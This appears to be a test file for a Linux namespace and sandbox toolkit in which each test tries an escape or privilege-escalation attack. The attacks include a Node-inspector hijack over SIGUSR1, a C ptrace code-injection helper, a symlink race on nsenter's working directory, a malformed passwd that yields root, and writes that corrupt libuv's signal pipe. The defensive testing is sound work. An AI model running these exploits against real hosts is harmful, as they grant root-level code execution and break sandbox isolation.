// Attacks on the tools' stage and planner (native/tool.c, src/cli/stage.ts) and on spawn()
// (native/spawn.c, src/spawn): each test below documents a way past the sandbox, or a
// broken promise of the README, and fails while the hole is open. The last tests record
// attacks that held.
//
// Helpers are compiled with cc into a world-readable temporary directory, so that a
// program running as another uid (a user namespace's root is host uid 100000 here) can
// run them. Nothing waits without a bound; everything started is killed in teardown.
import t from 'tap';
import {
  chmodSync, closeSync, existsSync, mkdirSync, mkdtempSync, openSync, readdirSync, readFileSync, readSync, readlinkSync,
  renameSync, rmSync, statSync, symlinkSync, writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { spawn as nodeSpawn, type ChildProcess } from 'node:child_process';
import { run, ROOT } from './helpers.js';

const UNSHARE = `${ROOT}bin/ts-unshare`;
const NSENTER = `${ROOT}bin/ts-nsenter`;
const CHROOT = `${ROOT}bin/ts-chroot`;
const REDUCECAP = `${ROOT}bin/ts-reducecap`;
const PYTHON = '/usr/bin/python3';
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

// strace's fixed delays and the attackers' deadlines make 45 s here, more on a loaded
// machine: the file has more than tap's 180 s; each wait is bounded on its own.
t.setTimeout(480_000);

/** Poll until `check` holds or `ms` pass. */
async function until(check: () => boolean | Promise<boolean>, ms = 30_000): Promise<boolean> {
  for (const deadline = Date.now() + ms; Date.now() < deadline; await sleep(20)) if (await check()) return true;
  return false;
}

/** A temporary directory anyone may enter (for programs running as another uid); removed after the test. */
function workdir(t: Tap.Test, name: string): string {
  const dir = mkdtempSync(join(tmpdir(), `tsns-attack-${name}-`));
  chmodSync(dir, 0o755);
  t.teardown(() => { try { rmSync(dir, { recursive: true, force: true }); } catch { /* a mount point left by a failed test */ } });
  return dir;
}

/** Compile a C helper into `dir`; its path. */
async function cc(t: Tap.Test, dir: string, name: string, source: string, statik = false): Promise<string> {
  writeFileSync(join(dir, `${name}.c`), source);
  const r = await run('cc', ['-O2', ...(statik ? ['-static'] : []), '-o', join(dir, name), join(dir, `${name}.c`)]);
  t.equal(r.exitCode, 0, `cc ${name}: ${r.stderr}`);
  chmodSync(join(dir, name), 0o755);
  return join(dir, name);
}

/** Start a process; it is SIGKILLed at teardown if still there. Resolves `ended` with its output. */
function start(t: Tap.Test, file: string, args: string[], env: Record<string, string> = {}) {
  const { NODE_OPTIONS: _, ...base } = process.env;
  const child: ChildProcess = nodeSpawn(file, args, { env: { ...base, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
  let stdout = '', stderr = '';
  child.stdout!.on('data', (d) => { stdout += d; });
  child.stderr!.on('data', (d) => { stderr += d; });
  const ended = new Promise<{ code: number | null; signal: NodeJS.Signals | null; stdout: string; stderr: string }>((resolve) =>
    child.once('close', (code, signal) => resolve({ code, signal, stdout, stderr })));
  t.teardown(() => { try { child.kill('SIGKILL'); } catch { /* gone */ } });
  return { child, ended, out: () => stdout };
}

/** Wait for `ended` at most `ms`; SIGKILL the process if it takes longer. */
async function bounded<T>(p: { child: ChildProcess; ended: Promise<T> }, ms = 30_000): Promise<T> {
  const timer = setTimeout(() => p.child.kill('SIGKILL'), ms);
  try { return await p.ended; } finally { clearTimeout(timer); }
}

const cmdline = (pid: number | string): string[] => {
  try { return readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0'); } catch { return []; }
};
const pids = (): number[] => readdirSync('/proc').filter((d) => /^\d+$/.test(d)).map(Number);

const mounted = (path: string) => readFileSync('/proc/self/mounts', 'utf8').split('\n').some((l) => l.split(' ')[1] === path);

// ---------------------------------------------------------------------------------------

// The attacker: a Python program running as uid 0 without any capability. It waits for a
// planner (an argument ends with dist/bin/TOOL.cjs, and `marker` among its arguments: a
// planner started from a snapshot has node's options before its path),
// sends it SIGUSR1 once Node has put its handler in place, and if 127.0.0.1:9229 opens
// for that planner, attaches and evaluates code there that writes the planner's
// capabilities to `out`.
const INSPECTOR_ATTACK = String.raw`
import base64, json, os, signal, socket, sys, time
marker, out, tool = sys.argv[1], sys.argv[2], sys.argv[3]
deadline = time.time() + 20
print('attacker', [l for l in open('/proc/self/status').read().splitlines() if l.startswith('CapEff')][0], flush=True)
def planner():
    for d in os.listdir('/proc'):
        if not d.isdigit(): continue
        try:
            args = open('/proc/%s/cmdline' % d, 'rb').read().decode(errors='replace').split('\0')
            at = [k for k, a in enumerate(args) if a.endswith('dist/bin/%s.cjs' % tool)]
            if at and marker in args[at[0] + 1:]:
                st = open('/proc/%s/status' % d).read()
                cgt = int([l for l in st.splitlines() if l.startswith('SigCgt:')][0].split()[1], 16)
                return int(d), bool(cgt & (1 << (signal.SIGUSR1 - 1)))
        except (OSError, IndexError, ValueError): pass
    return None, False
pid = None
while time.time() < deadline:
    pid, ready = planner()
    if pid and ready: break
    time.sleep(0.001)
else:
    print('no planner', flush=True); sys.exit(0)
os.kill(pid, signal.SIGUSR1)
print('sent SIGUSR1 to', pid, flush=True)
def http(path):
    s = socket.create_connection(('127.0.0.1', 9229), timeout=2)
    s.sendall(('GET %s HTTP/1.1\r\nHost: 127.0.0.1:9229\r\n\r\n' % path).encode())
    data = b''
    while True:
        c = s.recv(65536)
        if not c: break
        data += c
        if b'\r\n\r\n' in data and data.rstrip().endswith((b']', b'}')): break
    return data.split(b'\r\n\r\n', 1)[1]
targets = None
while time.time() < deadline and os.path.exists('/proc/%d' % pid):
    try:
        targets = [x for x in json.loads(http('/json/list')) if tool in x.get('url', '')]
        if targets: break
    except Exception: time.sleep(0.002)
if not targets:
    print('no inspector', flush=True); sys.exit(0)
print('inspector open', targets[0]['url'], flush=True)
path = targets[0]['webSocketDebuggerUrl'].split('9229', 1)[1]
s = socket.create_connection(('127.0.0.1', 9229), timeout=5)
key = base64.b64encode(os.urandom(16)).decode()
s.sendall(('GET %s HTTP/1.1\r\nHost: 127.0.0.1:9229\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n'
           'Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n\r\n' % (path, key)).encode())
resp = b''
while b'\r\n\r\n' not in resp: resp += s.recv(4096)
code = ("(()=>{const r=process.getBuiltinModule||process.mainModule.require;const fs=r('fs');"
        "const cap=fs.readFileSync('/proc/self/status','utf8').split('\\n').find(l=>l.startsWith('CapEff'));"
        "fs.writeFileSync(%s, 'planner uid '+process.getuid()+' '+cap+'\\n');return 'evaluated'})()") % json.dumps(out)
p = json.dumps({'id': 1, 'method': 'Runtime.evaluate', 'params': {'expression': code}}).encode()
mask = os.urandom(4)
s.sendall(bytes([0x81, 0x80 | 126]) + len(p).to_bytes(2, 'big') + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(p)))
buf = b''
try:
    while b'"id":1' not in buf:
        c = s.recv(65536)
        if not c: break
        buf += c
except socket.timeout: pass
print('reply', buf[2:300].decode(errors='replace'), flush=True)
s.close()
`;

// ts-oci's planner starts from a V8 snapshot (scripts/bundle.mjs): its SIGUSR1 listener is
// put in place by the snapshot's main function, not by dist/bin/oci.cjs.
for (const tool of ['unshare', 'oci'] as const) t.test(`SIGUSR1 to the ${tool} planner (Node, full capabilities) from a capability-less uid-0 process opens its inspector on 127.0.0.1:9229: code runs there with every capability`, async (t) => {
  const dir = workdir(t, `inspector-${tool}`);
  const script = join(dir, 'attack.py');
  writeFileSync(script, INSPECTOR_ATTACK);
  const out = join(dir, 'evaluated-in-planner');
  let opened = '';
  // Until code ran in a planner (a late attach finds its context gone): at most 3 rounds.
  for (let round = 0; round < 3 && !existsSync(out); round++) {
    const marker = `tsns-attack-${process.pid}-${round}`;
    // Confined the way ts-reducecap --secure confines a program: uid 0, few capabilities.
    const attacker = start(t, REDUCECAP, ['--secure', '--', PYTHON, script, marker, out, tool]);
    t.ok(await until(() => attacker.out().startsWith('attacker')), `round ${round}: the attacker runs`);
    // Any later ts-* run by the administrator: ts-unshare -u, or ts-oci state, the marker among its arguments.
    const victim = tool === 'unshare' ? await run(UNSHARE, ['-u', 'sh', '-c', ': "$1"', 'sh', marker])
      // Without tap's NODE_OPTIONS, with which node would refuse the snapshot (test/oci/bin/ts-oci).
      : await run(`${ROOT}test/oci/bin/ts-oci`, ['--root', dir, 'state', marker]);
    t.comment(`round ${round}: ts-${tool} ended with ${victim.exitCode} ${victim.stderr}`);
    const a = await bounded(attacker, 10_000);
    t.comment(`round ${round}: attacker: ${a.stdout}`);
    if (/inspector open/.test(a.stdout)) opened += `round ${round}: ${a.stdout}`;
  }
  t.equal(opened, '', 'a planner must not open a Node inspector on SIGUSR1 from a confined process');
  t.notOk(existsSync(out), `code evaluated in the planner: ${existsSync(out) ? readFileSync(out, 'utf8') : ''}`);
});

// ---------------------------------------------------------------------------------------

const PTRACE_PROBE = String.raw`
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
int main(int argc, char **argv) {
  pid_t p = atoi(argv[1]);
  int st;
  if (ptrace(PTRACE_ATTACH, p, 0, 0) < 0) { printf("attach %d refused: %s\n", p, strerror(errno)); return 1; }
  waitpid(p, &st, __WALL);
  printf("attached to %d\n", p);
  ptrace(PTRACE_DETACH, p, 0, 0);
  return 0;
}
`;

// x86_64: make the traced process run openat/write/close for us, then let it go on.
const PTRACE_INJECT = String.raw`
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
static pid_t p;
static long call(struct user_regs_struct *base, unsigned long at, long nr, long a, long b, long c, long d) {
  struct user_regs_struct r = *base; int st;
  r.rip = at; r.rax = nr; r.orig_rax = -1; r.rdi = a; r.rsi = b; r.rdx = c; r.r10 = d;
  if (ptrace(PTRACE_SETREGS, p, 0, &r) < 0 || ptrace(PTRACE_SINGLESTEP, p, 0, 0) < 0) return -1;
  waitpid(p, &st, __WALL);
  ptrace(PTRACE_GETREGS, p, 0, &r);
  return (long)r.rax;
}
int main(int argc, char **argv) {
  struct user_regs_struct saved; int st; char data[512];
  p = atoi(argv[3]);
  if (ptrace(PTRACE_ATTACH, p, 0, 0) < 0) { printf("inject: attach refused\n"); return 1; }
  waitpid(p, &st, __WALL);
  ptrace(PTRACE_GETREGS, p, 0, &saved);
  unsigned long at = saved.rip - 2, buf = (saved.rsp - 8192) & ~15UL;
  if ((ptrace(PTRACE_PEEKTEXT, p, at, 0) & 0xffff) != 0x050f) { ptrace(PTRACE_DETACH, p, 0, 0); printf("inject: not in a syscall\n"); return 1; }
  memset(data, 0, sizeof data);
  memcpy(data, argv[1], strlen(argv[1]) + 1); memcpy(data + 256, argv[2], strlen(argv[2]));
  for (size_t k = 0; k < sizeof data; k += 8) { long w; memcpy(&w, data + k, 8); ptrace(PTRACE_POKEDATA, p, buf + k, w); }
  long fd = call(&saved, at, SYS_openat, AT_FDCWD, buf, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd >= 0) { call(&saved, at, SYS_write, fd, buf + 256, strlen(argv[2]), 0); call(&saved, at, SYS_close, fd, 0, 0, 0); }
  ptrace(PTRACE_SETREGS, p, 0, &saved);
  ptrace(PTRACE_DETACH, p, 0, 0);
  printf("inject: the traced process opened %s: %ld\n", argv[1], fd);
  return 0;
}
`;

const SLEEPER = '#include <unistd.h>\nint main(void) { sleep(120); return 0; }\n';

t.test('the process that stays in a user namespace (ts-unshare --fork, spawn() joining one) can be ptraced by the sandbox\'s root: it is host uid 0 and writes for it', async (t) => {
  const dir = workdir(t, 'ptrace');
  const probe = await cc(t, dir, 'probe', PTRACE_PROBE);
  const inject = process.arch === 'x64' ? await cc(t, dir, 'inject', PTRACE_INJECT) : undefined;
  const locked = join(dir, 'locked');
  mkdirSync(locked, { mode: 0o700 });
  const pwned = join(locked, 'written-by-the-stage');
  // The program is the namespace's root: host uid 100000, all capabilities in the namespace only.
  const script = `touch ${locked}/direct 2>/dev/null && echo direct-write-ok; ` +
    `${probe} $PPID; ${inject ? `${inject} ${pwned} host-root-file-from-the-sandbox $PPID` : 'true'}`;
  const r = await run(UNSHARE, ['--user', '--map-users=100000,0,65536', '--map-groups=100000,0,65536', '-S', '0', '-G', '0', '--fork', 'sh', '-c', script]);
  t.notOk(r.stderr.includes('ts-unshare:'), `ts-unshare itself did not fail: ${r.stderr}`);
  t.notMatch(r.stdout, /direct-write-ok/, 'precondition: the program itself cannot write in a root-only directory');
  t.notMatch(r.stdout, /attached to/, `the program (host uid 100000) must not ptrace the stage (host uid 0) that waits for it: ${r.stdout}`);
  t.notOk(existsSync(pwned), `through the stage, the program made a file as host root: ${existsSync(pwned) ? `uid ${statSync(pwned).uid}` : ''}`);

  // spawn() with a fork step: the process that waits is a copy of the caller's Node (its
  // whole heap), left in the joined user namespace. A target whose pid namespace is the host's.
  const sleeper = await cc(t, dir, 'sleeper', SLEEPER);
  const target = start(t, UNSHARE, ['--user', '--map-users=100000,0,65536', '--map-groups=100000,0,65536', '-S', '0', '-G', '0', sleeper]);
  const tpid = target.child.pid!;
  t.ok(await until(() => existsSync(`/proc/${tpid}/exe`) && readlinkSync(`/proc/${tpid}/exe`) === sleeper), 'the target runs');
  const lib = await run(process.execPath, ['--input-type=module', '-e', `
    const { spawn } = await import(${JSON.stringify(`${ROOT}dist/index.js`)});
    const s = spawn({ join: [{ kind: 'pid', path: '/proc/${tpid}/ns/pid' }, { kind: 'user', path: '/proc/${tpid}/ns/user' }],
      forkAfterJoin: true, uid: 0, gid: 0, stdio: ['ignore', 'pipe', 'inherit'] }, ['sh', '-c', 'readlink /proc/$PPID/exe; ${probe} $PPID']);
    let out = ''; s.stdout.on('data', (d) => { out += d; });
    const closed = new Promise((r) => s.stdout.once('close', r));
    await s.exited; await closed;
    process.stdout.write(out);`]);
  // The waiting copy of Node is not dumpable: its /proc/PID/exe cannot even be read from in there.
  t.equal(lib.exitCode, 0, `the spawn ran: ${lib.stderr}`);
  t.notMatch(lib.stdout, /attached to/, `spawn(): the program must not ptrace the copy of Node that waits for it: ${lib.stdout}${lib.stderr}`);
});

// ---------------------------------------------------------------------------------------

const LSDOT = String.raw`
#include <dirent.h>
#include <stdio.h>
int main(void) { DIR *d = opendir("."); struct dirent *e; if (!d) { perror("opendir ."); return 1; }
  while ((e = readdir(d))) if (e->d_name[0] != '.') printf("%s\n", e->d_name); return 0; }
`;

t.test('ts-nsenter -W: a symbolic link swapped in after the planner walked the path gives the program a cwd on the host, outside the target\'s root', async (t) => {
  const dir = workdir(t, 'wdns');
  const ct = join(dir, 'ct'), host = join(dir, 'host-only');
  mkdirSync(join(ct, 'bin'), { recursive: true });
  mkdirSync(join(ct, 'a', 'b'), { recursive: true });
  mkdirSync(host);
  writeFileSync(join(ct, 'a', 'b', 'inside-file'), '');
  writeFileSync(join(host, 'HOST-ONLY-FILE'), '');
  await cc(t, join(ct, 'bin'), 'lsdot', LSDOT, true);
  await cc(t, join(ct, 'bin'), 'sleeper', SLEEPER, true);
  // The "container": its own mount namespace, its root chrooted to ct.
  const target = start(t, 'unshare', ['-m', '-R', ct, '/bin/sleeper']);
  const tpid = target.child.pid!;
  t.ok(await until(() => { try { return readlinkSync(`/proc/${tpid}/root`) === ct; } catch { return false; } }), 'the target runs in ct');

  const normal = await run(NSENTER, ['-t', String(tpid), '-m', '-r', '-W', '/a/b', '/bin/lsdot']);
  t.equal(normal.stdout, 'inside-file', `precondition: -W /a/b is the target's /a/b: ${normal.stderr}`);

  // The race made deterministic: strace holds the stage at its chdir(2) to -W's directory,
  // made once inside (as util-linux does); a process of the container then replaces b by a
  // link to an absolute host path. Inside the target's root, that path leads nowhere on the host.
  t.ok((await run('strace', ['-V'])).exitCode === 0, 'strace is installed (it holds the stage at the right moment)');
  const traced = start(t, 'strace', ['-f', '-qq', '-o', '/dev/null', '-e', 'trace=chdir', '-e', 'inject=chdir:delay_enter=8000000',
    NSENTER, '-t', String(tpid), '-m', '-r', '-W', '/a/b', '/bin/lsdot']);
  // The stage is strace's child (the shim execs it in place); wait until it is in chdir("/a/b").
  const atOpen = await until(() => {
    for (const pid of pids()) {
      if (!cmdline(pid).includes('nsenter') || !cmdline(pid)[0]?.endsWith('tsns-stage')) continue;
      let sc: string;
      try { sc = readFileSync(`/proc/${pid}/syscall`, 'utf8'); } catch { continue; }
      const f = sc.split(' ');
      if (f[0] !== '80') continue;
      try {
        const fd = openSync(`/proc/${pid}/mem`, 'r');
        const b = Buffer.alloc(256);
        readSync(fd, b, 0, 256, BigInt(f[1]));
        closeSync(fd);
        if (b.subarray(0, b.indexOf(0)).toString() === '/a/b') return true;
      } catch { /* not readable yet */ }
    }
    return false;
  });
  t.ok(atOpen, 'the stage is held at its chdir to the -W directory');
  renameSync(join(ct, 'a', 'b'), join(ct, 'a', 'b.real'));
  symlinkSync(host, join(ct, 'a', 'b'));
  const r = await bounded(traced);
  t.notMatch(r.stdout, /HOST-ONLY-FILE/, `the program's cwd must stay inside the target's root (util-linux opens -W inside it): listed ${JSON.stringify(r.stdout)}`);
});

// ---------------------------------------------------------------------------------------

t.test('ts-chroot --userspec: NEWROOT\'s /etc/passwd with an empty uid field runs the program as root (coreutils: invalid user)', async (t) => {
  const dir = workdir(t, 'chroot');
  mkdirSync(join(dir, 'etc'));
  mkdirSync(join(dir, 'bin'));
  await cc(t, join(dir, 'bin'), 'ids', '#include <stdio.h>\n#include <unistd.h>\nint main(void) { printf("uid=%d gid=%d\\n", getuid(), getgid()); return 0; }\n', true);
  writeFileSync(join(dir, 'etc', 'passwd'), 'root:x:0:0::/:/bin/sh\napp:x::1000::/:/bin/sh\nhex:x:0x10:1000::/:/bin/sh\n');
  writeFileSync(join(dir, 'etc', 'group'), 'root:x:0:\napp:x:1000:\nempty:x::\n');
  const ref = await run('chroot', ['--userspec=app', dir, '/bin/ids']);
  t.equal(ref.exitCode, 125, `coreutils refuses the entry: ${ref.stderr}`);
  for (const [spec, what] of [['app', 'empty uid'], ['app:empty', 'empty gid'], ['hex', 'uid 0x10']] as const) {
    const r = await run(CHROOT, [`--userspec=${spec}`, dir, '/bin/ids']);
    t.equal(r.exitCode, 125, `--userspec=${spec} (${what}) is refused as coreutils refuses it, not run as ${r.stdout}`);
    t.notMatch(r.stdout, /uid=0 |gid=0$/, `--userspec=${spec} (${what}): not root`);
  }
});

// ---------------------------------------------------------------------------------------

t.test('spawn() with \'inherit\' past fd 2 hands the program Node\'s own descriptors (libuv\'s signal pipe, epoll): it can crash Node', async (t) => {
  const dist = JSON.stringify(`${ROOT}dist/index.js`);
  // The layout of test/spawn-regress.test.ts: 40 entries, 'inherit' for 3..38.
  const list = await run(process.execPath, ['--input-type=module', '-e', `
    const { spawn } = await import(${dist});
    const stdio = Array.from({ length: 40 }, (_, k) => (k === 1 ? 'pipe' : k < 3 ? 'ignore' : 'inherit'));
    const s = spawn({ stdio }, ['sh', '-c', 'for f in $(seq 3 39); do readlink /proc/$$/fd/$f; done']);
    let out = ''; s.stdout.on('data', (d) => { out += d; });
    const closed = new Promise((r) => s.stdout.once('close', r));
    await s.exited; await closed;
    process.stdout.write(out);`]);
  t.equal(list.exitCode, 0, list.stderr);
  // As child_process: 'inherit' past fd 2 means not open, so there is nothing to list.
  t.notMatch(list.stdout, /anon_inode:\[(eventpoll|eventfd)\]/, `Node's event loop descriptors reach the program:\n${list.stdout}`);

  // The program writes 16 bytes into every pipe it was given that way: one of them is
  // libuv's signal pipe, whose records carry a pointer libuv calls through.
  const crash = await run(process.execPath, ['--input-type=module', '-e', `
    const { spawn } = await import(${dist});
    await spawn({ stdio: 'ignore' }, ['true']).exited;   // SIGCHLD is watched from now on
    const stdio = Array.from({ length: 40 }, (_, k) => (k < 3 ? 'ignore' : 'inherit'));
    const py = 'import os, stat\\nfor fd in range(3, 40):\\n  try:\\n    if stat.S_ISFIFO(os.fstat(fd).st_mode):\\n      os.set_blocking(fd, False); os.write(fd, b"A" * 16)\\n  except OSError: pass\\n';
    const s = spawn({ stdio }, [${JSON.stringify(PYTHON)}, '-c', py]);
    await s.exited;
    await new Promise((r) => setTimeout(r, 300));
    process.stdout.write('node survived');`], { timeout: 30_000 });
  t.equal(crash.signal, undefined, `the caller's Node must not die by a signal (${crash.signal})`);
  t.equal(crash.stdout, 'node survived');
});

// ---------------------------------------------------------------------------------------

t.test('stdout and stderr closed: the planner\'s own output becomes the stage\'s control messages', async (t) => {
  const dir = workdir(t, 'closed');
  const ref = await run('sh', ['-c', `${UNSHARE} /nonexistent 2>/dev/null >/dev/null; echo $?`]);
  t.equal(ref.stdout, '127');
  const closed = await run('sh', ['-c', `${UNSHARE} /nonexistent >&- 2>&-; echo $?`]);
  t.equal(closed.stdout, ref.stdout, 'the exit status is the tool\'s, not a byte of its error message (116 = \'t\')');
  const ran = join(dir, 'ran');
  const explain = await run('sh', ['-c', `${UNSHARE} --explain --map-users=100000,0,10 --map-groups=100000,0,10 sh -c 'echo ran > ${ran}' >&- 2>&-; echo $?`]);
  t.equal(explain.stdout, '0', 'the program runs (util-linux runs it): the --explain line written by the planner is no reply');
  t.ok(existsSync(ran), 'the program ran');
});

// ---------------------------------------------------------------------------------------

// A known limit, shared with util-linux (whose helper child can be killed at the same
// moment): the bind mount stays. What must hold: the stage says so, and the program never runs.
t.test('the planner killed right after its bind mount: the stage exits, the program never runs', async (t) => {
  const dir = workdir(t, 'planner-kill');
  const file = join(dir, 'uts');
  const ran = join(dir, 'ran');
  writeFileSync(file, '');
  t.teardown(async () => { await run('umount', ['-l', file]); });
  t.ok((await run('strace', ['-V'])).exitCode === 0, 'strace is installed (it holds the planner after its mount)');
  // strace delays the return of mount(2) in the planner: the moment between its bind mount and its reply.
  const traced = start(t, 'strace', ['-f', '-qq', '-o', '/dev/null', '-e', 'trace=mount', '-e', 'inject=mount:delay_exit=8000000',
    UNSHARE, `--uts=${file}`, 'sh', '-c', `touch ${ran}`]);
  t.ok(await until(() => mounted(file)), 'the planner has made the bind mount');
  const planner = pids().find((p) => cmdline(p).some((a) => a.endsWith('dist/bin/unshare.cjs')) && cmdline(p).includes(`--uts=${file}`));
  t.ok(planner, 'the planner is found');
  if (planner) process.kill(planner, 'SIGKILL');
  const r = await bounded(traced);
  t.not(r.code, 0, 'the tool fails');
  t.notOk(existsSync(ran), 'the program never ran');
  t.match(r.stderr, /^ts-unshare: the planner ended before the program could run$/m, 'one line says why');
});

// ---------------------------------------------------------------------------------------

/** A stand-in for Node (TSNS_NODE): sends the stage what FAKE says, as a planner would. */
const FAKE_PLANNER = String.raw`#!/usr/bin/python3
import os, struct, sys
fd = int(os.environ['TSNS_STAGE_FD'])
mode = os.environ['FAKE']
NULL = struct.pack('<I', 0xffffffff)
def send(b):
    while b: b = b[os.write(fd, b):]
def plan(*records):
    body = b''.join(records)
    send(struct.pack('<iI', -2, len(body)) + body)
def rec(op, ints=(), strs=()):
    r = struct.pack('<II', op, len(ints)) + b''.join(struct.pack('<q', i) for i in ints) + struct.pack('<I', len(strs))
    for s in strs: r += struct.pack('<I', len(s)) + s + b'\0'
    return r + NULL
if mode == 'sync-then-gone':
    plan(rec(18)); sys.exit(0)
if mode == 'failing-step-then-gone':
    plan(rec(8, (), (b'/nonexistent-tsns-attack',))); sys.exit(0)
if mode == 'garbage':
    send(struct.pack('<iI', -2, 64) + b'\xff' * 64)
if mode == 'huge':
    send(struct.pack('<iI', -2, 0xffffffff))
if mode == 'truncated':
    send(struct.pack('<iI', -2, 4096) + b'\0' * 100)
if mode == 'setuid-minus-one':
    plan(rec(14, (0xffffffff,)))
if mode == 'eof':
    pass
`;

t.test('the planner gone while the stage waits at a step: the stage ends with a status and one line, not silently or by SIGPIPE', async (t) => {
  const dir = workdir(t, 'fake');
  const fake = join(dir, 'fake-node');
  writeFileSync(fake, FAKE_PLANNER, { mode: 0o755 });
  for (const mode of ['sync-then-gone', 'failing-step-then-gone']) {
    const r = await run(UNSHARE, ['true'], { env: { TSNS_NODE: fake, FAKE: mode }, timeout: 20_000 });
    t.equal(r.signal, undefined, `${mode}: the stage is not killed by ${r.signal}`);
    t.ok(r.exitCode !== undefined && r.exitCode !== 0, `${mode}: a failure status (${r.exitCode})`);
    t.equal(r.stderr.split('\n').filter(Boolean).length, 1, `${mode}: one line says why: ${JSON.stringify(r.stderr)}`);
  }
});

// ---------------------------------------------------------------------------------------
// Attacks that held: kept as regressions.

t.test('held: malformed plans and messages from a fake planner end the stage with status 1 and one line', async (t) => {
  const dir = workdir(t, 'fake-held');
  const fake = join(dir, 'fake-node');
  writeFileSync(fake, FAKE_PLANNER, { mode: 0o755 });
  for (const mode of ['garbage', 'huge', 'truncated', 'setuid-minus-one', 'eof']) {
    const r = await run(UNSHARE, ['true'], { env: { TSNS_NODE: fake, FAKE: mode }, timeout: 20_000 });
    t.equal(r.exitCode, 1, `${mode}: status 1`);
    t.match(r.stderr, /^ts-unshare: [^\n]+$/, `${mode}: one line`);
  }
});

t.test('a directory named node early on PATH is passed over, as execvp passes it', async (t) => {
  const dir = workdir(t, 'path-node');
  mkdirSync(join(dir, 'node'));
  const r = await run(UNSHARE, ['sh', '-c', 'echo ran'], { env: { PATH: `${dir}:${process.env.PATH}` } });
  t.equal(r.stderr, '');
  t.equal(r.stdout, 'ran');
  t.equal(r.exitCode, 0);
});

t.test('NODE_EXTRA_CA_CERTS: the planner does not load the certificates, the program gets the variable as it was', async (t) => {
  // Node reads the file before any JavaScript runs and warns when it cannot: no warning
  // means the planner never tried.
  for (const args of [[], ['--fork']]) {
    const r = await run(UNSHARE, [...args, 'sh', '-c', 'printenv NODE_EXTRA_CA_CERTS; env | grep -c ^TSNS_ || true'], { env: { NODE_EXTRA_CA_CERTS: '/nonexistent/ca.pem' } });
    t.equal(r.stderr, '', `ts-unshare ${args.join(' ')}: node read no certificates`);
    t.equal(r.stdout, '/nonexistent/ca.pem\n0', 'the program has the variable, and no TSNS_ one');
  }
  const unset = await run('env', ['-u', 'NODE_EXTRA_CA_CERTS', UNSHARE, 'sh', '-c', 'env | grep -c "^NODE_EXTRA_CA_CERTS=\\|^TSNS_" || true'], { env: { TSNS_STAGE_CA_CERTS: '/forged.pem' } });
  t.equal(unset.stdout, '0', 'unset stays unset, whatever TSNS_STAGE_CA_CERTS the caller set');
});

t.test('held: no TSNS_* variable and no descriptor of the stage or planner reaches the program', async (t) => {
  const env = await run(UNSHARE, ['--fork', 'sh', '-c', 'env | grep ^TSNS_ || true'], { env: { TSNS_STAGE_FD: '7', TSNS_STAGE_DIR: '/nonexistent' } });
  t.equal(env.stdout, '', 'TSNS_STAGE_FD and TSNS_STAGE_DIR are gone');
  // fd number and kind, as the program sees them; the same as a plain sh run the same way.
  const fds = 'for f in /proc/$$/fd/*; do echo ${f##*/} $(readlink $f | sed "s/:.*//"); done';
  const baseline = await run('sh', ['-c', fds]);
  for (const args of [[], ['--fork'], ['--explain'], ['--explain', '--fork', '--user', '--map-users=100000,0,10', '--map-groups=100000,0,10']]) {
    const r = await run(UNSHARE, [...args, 'sh', '-c', fds]);
    t.equal(r.stdout, baseline.stdout, `ts-unshare ${args.join(' ')}`);
  }
  for (const args of [['-a'], ['-a', '-F'], ['-u', '--explain']]) {
    const r = await run(NSENTER, ['-t', String(process.pid), ...args, 'sh', '-c', fds]);
    t.equal(r.stdout, baseline.stdout, `ts-nsenter -t PID ${args.join(' ')}`);
  }
});
